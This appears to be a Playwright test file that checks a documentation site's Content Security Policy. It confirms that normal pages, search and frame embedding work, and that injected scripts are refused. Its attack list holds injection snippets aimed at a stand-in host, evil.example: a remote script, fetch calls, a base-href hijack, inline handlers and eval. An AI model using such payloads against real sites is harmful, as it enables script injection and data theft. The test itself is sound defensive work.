// The content security policy allows everything that the site does, and refuses attacks.
import { createServer } from 'node:http';
import { openSearch, search } from '../../packages/search/tests/browser/panel.ts';
import { freePort } from '../../tools/serve/port.ts';
import { hydrate } from '../support/hydration.ts';
import { expect, openHydrated, type Page, test } from '../support/test.ts';

const guide = 'guide/start/quick-start';
const logos = 'https://assets.rspack.rs/**';
const logo =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><path d="M0 0h9v9H0z"/></svg>';

/** Collects what the policies of the page and its frames refuse: directive and URL. */
async function refusals(page: Page): Promise<string[]> {
  const found: string[] = [];
  await page.exposeFunction('noteRefusal', (what: string) => found.push(what));
  await page.addInitScript(() => {
    const { noteRefusal } = window as unknown as { noteRefusal(what: string): void };
    document.addEventListener('securitypolicyviolation', (event) =>
      noteRefusal(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  // Violations in a worker are reported on the console only.
  page.on('console', (message) => {
    if (/Content Security Policy/.test(message.text())) found.push(message.text());
  });
  return found;
}

test.beforeEach(async ({ page }) => {
  await page.route(logos, (route) =>
    route.fulfill({ contentType: 'image/svg+xml', body: logo }),
  );
});

test('nothing is refused on the home page and in a guide with search and tabs', async ({
  page,
}) => {
  const refused = await refusals(page);
  await openHydrated(page, '');
  await page.locator('[data-tools] > button').click();
  await expect(page.locator('#tools-popover img').first()).toBeVisible();
  await page.keyboard.press('Escape');

  await openHydrated(page, guide);
  await page.locator('[data-switch-appearance]').click();
  await expect(page.locator('html')).toHaveClass(/\bdark\b/);
  await page.locator('.rp-tabs label').nth(1).click();
  const panel = await openSearch(page);
  await search(panel, 'umd name');
  // If it were refused, search would run in the page instead.
  expect(page.workers()).toHaveLength(1);
  await page.keyboard.press('Enter');
  await expect(page.locator('h1')).toContainText('lib.umdName');
  await page.locator('header a:has(img)').first().click();
  await expect(page.locator('main h1')).toBeVisible();
  expect(refused).toEqual([]);
});

test('nothing is refused on the Chinese 404 page, and in a frame of another site', async ({
  page,
  baseURL,
}) => {
  const refused = await refusals(page);
  await page.goto('zh/nowhere');
  await expect(page.locator('html')).toHaveAttribute('lang', 'zh-CN');
  await hydrate(page);
  // Another port is another site; requests from an invented host to this machine are blocked.
  const embedding = createServer((_, response) =>
    response.setHeader('Content-Type', 'text/html').end(
      `<!doctype html>
        <iframe width="1200" height="700" src="${baseURL}${guide}?navbar=0&sidebar=0"></iframe>`,
    ),
  );
  const port = await freePort();
  await new Promise<void>((ready) => embedding.listen(port, '127.0.0.1', ready));
  await page.goto(`http://127.0.0.1:${port}/`);
  const frame = page.frameLocator('iframe');
  await expect(frame.locator('h1')).toBeVisible();
  await expect(frame.locator('.rp-nav')).toBeHidden();
  await frame.locator('h1').click();
  await frame.locator('.rp-tabs label').nth(1).click();
  await frame.locator('html[data-test-hydrated]').waitFor({ state: 'attached' });
  embedding.close();
  embedding.closeAllConnections();
  expect(refused).toEqual([]);
});

/** What an attacker might make a page do, and what the policy reports then. */
const attacks = [
  ['script-src-elem inline', 'document.body.append(make("script", { text: mark }))'],
  ['script-src-attr inline', 'make("img", {}).setAttribute("onerror", mark)'],
  [
    'script-src-elem https://evil.example/a.js',
    'document.body.append(make("script", { src: "https://evil.example/a.js" }))',
  ],
  ['script-src eval', 'setTimeout(mark)'],
  [
    'style-src-elem inline',
    'document.head.append(make("style", { textContent: "html { --attacked: 1 }" }))',
  ],
  ['connect-src https://evil.example/', 'fetch("https://evil.example/").catch(() => 0)'],
  [
    'base-uri https://evil.example/',
    'document.head.append(make("base", { href: "https://evil.example/" }))',
  ],
] as const;

test('attacks are refused and have no effect', async ({ page }) => {
  const refused = await refusals(page);
  await page.goto('guide/faq/');
  for (const [directive, attack] of attacks) {
    await page.evaluate(`{
      const mark = 'document.documentElement.dataset.attacked = 1';
      const make = (tag, properties) =>
        Object.assign(document.createElement(tag), properties);
      ${attack};
    }`);
    await expect.poll(() => refused, attack).toContain(directive);
  }
  await expect(page.locator('html')).not.toHaveAttribute('data-attacked');
  await expect(page.locator('html')).toHaveCSS('--attacked', '');
});
